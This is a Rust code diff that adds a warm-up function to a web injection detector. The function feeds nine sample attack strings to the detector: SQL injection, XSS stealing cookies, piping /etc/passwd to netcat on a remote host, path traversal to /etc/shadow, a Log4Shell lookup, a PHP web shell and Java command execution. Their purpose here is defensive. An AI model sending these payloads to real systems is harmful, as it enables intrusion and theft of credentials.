@@ -66,6 +66,24 @@ impl Injection {
     }
 }
 
+/// Builds the detectors' tables now rather than on the first request that needs them (a
+/// server calls this at start, so no request pays for it).
+pub fn warm() {
+    for v in [
+        "1' or sleep(5)-- ",
+        "<script>alert(document.cookie)</script>",
+        "; cat /etc/passwd | nc 203.0.113.1 4444",
+        "../../../../etc/shadow",
+        "${jndi:ldap://203.0.113.1/a}",
+        "{{7*7}}",
+        "<?php system($_GET['c']); ?>",
+        "http://203.0.113.1/shell.txt?",
+        "java.lang.Runtime.getRuntime().exec('id')",
+    ] {
+        std::hint::black_box(detect(v));
+    }
+}
+
 /// Decides whether a decoded value (already percent-decoded once by the caller) carries an
 /// injection. Only the first [`SCAN_LIMIT`] bytes are inspected.
 pub fn detect(value: &str) -> Option<Injection> {
